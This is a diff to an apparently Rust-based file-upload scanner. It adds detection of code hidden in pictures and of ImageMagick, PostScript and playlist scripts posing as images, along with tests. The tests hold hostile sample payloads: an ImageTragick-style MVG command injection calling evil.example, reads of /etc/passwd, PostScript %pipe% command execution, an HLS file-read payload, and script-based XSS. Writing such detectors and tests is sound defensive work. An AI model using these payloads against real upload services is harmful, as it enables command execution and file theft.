@@ -185,18 +185,31 @@ fn content(value: &Value<'_>) -> Option<Finding> {
         return Some(Finding::new(rule, CERTAIN, 0..magic.len()));
     }
     // behind a picture's own beginning, where an interpreter that is made to include it finds it
-    let hidden = ["<?php", "<%@ page", "<%@page"]
+    let hidden = ["<?php", "<?=`", "<?=$_", "<%@ page", "<%@page", "<%eval "]
         .into_iter()
         .find(|tag| contains(head, tag));
     if hidden.is_some() && claims_picture {
         return Some(Finding::new("program-in-picture", CERTAIN, 0..0));
     }
-    let is_active = name.ends_with(".svg")
+    if is_script_of_a_tool(head) {
+        return Some(Finding::new("picture-script", CERTAIN, 0..0));
+    }
+    // what is named as a picture and is markup, a browser may be made to show as a page
+    let is_active = (name.ends_with(".svg") || claims_picture && head.starts_with('<'))
         && (contains(head, "<script")
             || contains(head, "onload=")
             || contains(head, "javascript:")
             || contains(head, "<foreignobject"));
     is_active.then(|| Finding::new("active-picture", CERTAIN, 0..0))
+}
+
+/// Whether a file is a script of what converts pictures and films, under any name: ImageMagick's MVG
+/// that fetches or reads (CVE-2016-3714), PostScript that opens a pipe, a play list of local files.
+fn is_script_of_a_tool(head: &str) -> bool {
+    let is_drawing = head.starts_with("push graphic-context") && (contains(head, "url(") || contains(head, "@/"));
+    let is_program = head.starts_with("%!") && contains(head, "%pipe%");
+    let is_list = head.starts_with("#EXTM3U") && contains(head, "file:/");
+    is_drawing || is_program || is_list
 }
 
 /// Whether a text holds another one, in whatever case; one that begins with a letter or `<`.
@@ -216,6 +229,42 @@ mod tests {
 
     fn named(name: &str) -> Option<(&'static str, u8)> {
         find_as(Role::FileName, "file", name)
+    }
+
+    #[test]
+    fn scripts_of_tools_and_pages_are_no_pictures() {
+        let head = |name: &str, text: &str| find_as(Role::FileHead, name, text).map(|(family, _)| family);
+        for (name, text) in [
+            (
+                "a.mvg",
+                "push graphic-context\nfill 'url(https://evil.example/\"|id\")'\npop graphic-context",
+            ),
+            ("a.jpg", "push graphic-context\nimage over 0,0 0,0 'label:@/etc/passwd'"),
+            (
+                "a.png",
+                "%!PS\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops",
+            ),
+            ("a.eps", "%!PS\n(%pipe%id) (w) file"),
+            (
+                "a.mp4",
+                "#EXTM3U\n#EXTINF:10.0,\nconcat:http://evil.example/h.m3u8|file:///etc/passwd",
+            ),
+            ("a.png", "<html><script>alert(1)</script>"),
+            (
+                "a.jpg",
+                "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
+            ),
+        ] {
+            assert_eq!(head(name, text), Some("upload"), "{name} {text}");
+        }
+        for (name, text) in [
+            ("a.mvg", "push graphic-context\nviewbox 0 0 1 1\npop graphic-context"),
+            ("a.eps", "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1"),
+            ("list.m3u8", "#EXTM3U\n#EXTINF:10,\nhttps://cdn.example.org/1.ts"),
+            ("page.txt", "<p>text</p>"),
+        ] {
+            assert_eq!(head(name, text), None, "{name} {text}");
+        }
     }
 
     #[test]
